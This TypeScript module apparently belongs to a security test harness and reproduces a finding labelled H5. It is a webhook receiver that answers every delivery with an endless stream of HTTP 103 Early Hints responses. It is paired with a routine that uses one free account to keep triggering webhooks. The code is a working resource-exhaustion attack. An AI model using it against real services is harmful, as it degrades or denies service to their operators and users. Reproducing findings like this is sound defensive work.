/** H5: a receiver of webhooks that answers 103 without end. */
import type { Socket } from "node:net"
import type { Attack } from "./attack.ts"
import { type DaemonTally, keepDaemons, repeatedly } from "./attacker-daemons.ts"
import { eventText } from "./attacker-events.ts"
import { emptyTally, flood } from "./sockets.ts"

const webhooks = 2
const repeats = 1_000
const eventMillis = 200
const informational = Buffer.from("HTTP/1.1 103 Early Hints\r\nlink: </siege>; rel=preload\r\n\r\n".repeat(repeats))

let attempts = 0
const tally = emptyTally()

const receive = (socket: Socket): void => {
  attempts++
  socket.on("error", () => socket.destroy())
  socket.once("data", () => flood(socket, informational, tally, () => socket.destroyed))
}

/** Of one free account. */
export const informationalReceiver: Attack = {
  finding: "H5",
  asks: `${webhooks} webhooks of one account whose receiver answers 103 without end`,
  holds: () => ({ plan: "free", keys: 0, daemons: 1, webhooks }),
  receive,
  strike: async (target) => {
    const daemon: DaemonTally = { online: 0, closed: 0 }
    await keepDaemons(target, daemon, {}, (socket) =>
      repeatedly(target, eventMillis, () => {
        if (attempts > 0) target.reach()
        socket.send([eventText({ event: "agent:stopped" })])
        return socket.ready
      })
    )
    return { attempts, bytesSent: tally.bytesSent, ...daemon }
  }
}
